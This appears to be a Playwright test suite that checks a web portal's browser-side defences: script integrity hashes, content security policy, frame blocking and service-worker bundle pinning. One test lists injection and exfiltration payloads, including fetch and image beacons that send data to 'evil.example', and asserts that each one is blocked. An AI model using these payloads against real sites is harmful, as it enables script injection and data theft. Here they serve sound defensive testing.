# SPDX-License-Identifier: EUPL-1.2
"""What guards the page, seen from inside a browser: a changed script never runs, another bundle never starts by itself."""

import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.async_api import Browser, Route

from portal.bundle import STATIC
from tests.browser import building
from tests.browser.chromium import device
from tests.browser.standing import Standing, standing

MARK = "window.__changed = true;"


@pytest.fixture
def portal(tmp_path: Path) -> Iterator[Standing]:
    with standing(tmp_path) as made:
        yield made


def _with_mark(body: bytes) -> bytes:
    return MARK.encode() + body


async def _changes(route: Route) -> None:
    answer = await route.fetch()
    await route.fulfill(response=answer, body=_with_mark(await answer.body()))


async def test_the_page_starts_and_breaks_none_of_its_rules(browser: Browser, portal: Standing) -> None:
    async with device(browser) as phone:
        await phone.page.goto(portal.origin)
        await phone.page.wait_for_selector("h1")
        assert await phone.violations() == []
        assert not [line for line in phone.told if "Policy" in line]


def _scripts() -> list[str]:
    return sorted(path.relative_to(STATIC).as_posix() for path in STATIC.glob("assets/*.js"))


@pytest.mark.parametrize("which", ["entry", "chunks"])
async def test_a_script_with_one_byte_changed_never_runs(browser: Browser, portal: Standing, which: str) -> None:
    page = (STATIC / "index.html").read_text()
    entry = re.search(r'src="/(assets/[^"]+)"', page)
    assert entry is not None
    others = [name for name in _scripts() if name != entry[1]]
    async with device(browser, attacked=True) as phone:
        for name in [entry[1]] if which == "entry" else others:
            await phone.page.route(f"**/{name}", _changes)
        await phone.page.goto(portal.origin)
        for name in others if which == "chunks" else []:
            failed = await phone.page.evaluate("(path) => import(path).then(() => false, () => true)", f"/{name}")
            assert failed, f"/{name} was imported with other bytes"
        await phone.page.wait_for_load_state("networkidle")
        assert await phone.page.evaluate("window.__changed ?? false") is False
        assert which == "chunks" or any("integrity" in line.lower() for line in phone.told)


async def test_a_script_that_no_list_names_never_runs(browser: Browser, portal: Standing) -> None:
    """Integrity-Policy and the import map: a script of our own origin without a hash is not run either."""
    async with device(browser, attacked=True) as phone:

        async def gives(route: Route) -> None:
            await route.fulfill(body=MARK, content_type="text/javascript")

        await phone.page.route("**/assets/new.js", gives)
        await phone.page.goto(portal.origin)
        assert await phone.page.evaluate("import('/assets/new.js').then(() => false, () => true)")
        assert await phone.page.evaluate("window.__changed ?? false") is False


@pytest.mark.parametrize(
    "attack",
    [
        "eval('1')",
        "new Function('return 1')()",
        "document.body.innerHTML = '<img src=x>'",
        "document.body.append(Object.assign(document.createElement('script'), {text: 'window.__changed = true'}))",
        "fetch('https://evil.example/?stolen').then(() => { window.__changed = true })",
        "new Image().src = 'https://evil.example/?stolen'",
        "new Worker('data:text/javascript,1')",
        "trustedTypes.createPolicy('other', {})",
    ],
)
async def test_what_an_intruder_would_try_is_stopped(browser: Browser, portal: Standing, attack: str) -> None:
    async with device(browser, attacked=True) as phone:
        await phone.page.goto(portal.origin)
        sent: list[str] = []
        phone.page.on("requestfinished", lambda request: sent.append(request.url))
        # Later, out of the protocol's own call: that one may do what pages may not.
        code = f"new Promise((done) => setTimeout(() => {{ try {{ {attack} }} catch {{}} setTimeout(done, 100) }}))"
        await phone.page.evaluate(code)
        assert await phone.page.evaluate("window.__changed ?? false") is False
        assert await phone.violations() != []
        assert not [url for url in sent if "evil" in url]


async def test_no_other_page_may_frame_it(browser: Browser, portal: Standing) -> None:
    async with device(browser, attacked=True) as phone:
        await phone.page.goto("about:blank")
        await phone.page.set_content(f"<iframe src='{portal.origin}'></iframe>")
        await phone.page.wait_for_timeout(300)
        frames = [frame.url for frame in phone.page.frames[1:]]
        assert all(not url.startswith(portal.origin) for url in frames), frames


KEEPS = """() => Promise.race([
  new Promise((done, no) => setTimeout(() => no(new Error('no service worker after 15 s')), 15000)),
  navigator.serviceWorker.ready.then((found) => new Promise((done) => {
    if (found.active.state === 'activated') done(true)
    found.active.addEventListener('statechange', (event) => event.target.state === 'activated' && done(true))
  })),
])"""


@pytest.mark.skipif(not building.has_packages(), reason="the front end's packages are not here: make portal")
async def test_another_bundle_starts_only_when_it_was_chosen(
    browser: Browser, portal: Standing, tmp_path: Path
) -> None:
    """Also: the one that runs is kept whole, and works without the server's files."""
    other = building.changed(tmp_path, {"index.html": ("<title>Kluisje</title>", "<title>Other</title>")})
    async with device(browser, workers=True) as phone:
        page = phone.page
        await page.goto(portal.origin)
        await page.evaluate(KEEPS)
        portal.serves(other)
        told = "new Promise((done) => navigator.serviceWorker.addEventListener('message', (e) => done(e.data.bundle)))"
        await page.goto(portal.origin)
        assert '"Other"' not in await page.content()
        title = "fetch('/').then((a) => a.text()).then((t) => /<title>(.*)<\\/title>/.exec(t)[1])"
        assert await page.evaluate(title) == "Kluisje"
        update = "navigator.serviceWorker.getRegistration().then((r) => r.update()).catch(() => null)"
        named = await page.evaluate(f"() => {{ const heard = {told}; {update}; return heard }}")
        assert re.fullmatch("bundle-[0-9a-f]{64}", named)
        await page.goto(portal.origin)
        assert await page.evaluate(title) == "Kluisje", "it started without a word"
        choose = f"caches.open('chosen').then((c) => c.put('/{named}', new Response(null)))"
        changes = "new Promise((d) => navigator.serviceWorker.addEventListener('controllerchange', () => d(true)))"
        await page.evaluate(f"async () => {{ await {choose}; const heard = {changes}; {update}; return heard }}")
        await page.goto(portal.origin)
        assert await page.evaluate(title) == "Other"


async def test_the_worker_keeps_the_bundle_and_never_an_answer(browser: Browser, portal: Standing) -> None:
    async with device(browser, workers=True) as phone:
        await phone.page.goto(portal.origin)
        await phone.page.evaluate(KEEPS)
        await phone.page.goto(portal.origin)
        await phone.page.evaluate("Promise.all(['/portal.json', '/theme.css'].map((path) => fetch(path)))")
        kept = await phone.page.evaluate(
            "caches.keys().then((names) => Promise.all(names.map((n) => caches.open(n).then((c) => c.keys()))))"
            ".then((all) => all.flat().map((one) => new URL(one.url).pathname))"
        )
        files = {f"/{path.relative_to(STATIC).as_posix()}" for path in STATIC.rglob("*") if path.is_file()}
        assert set(kept) == files - {"/index.html", "/sw.js", "/bundle.json"} | {"/"}
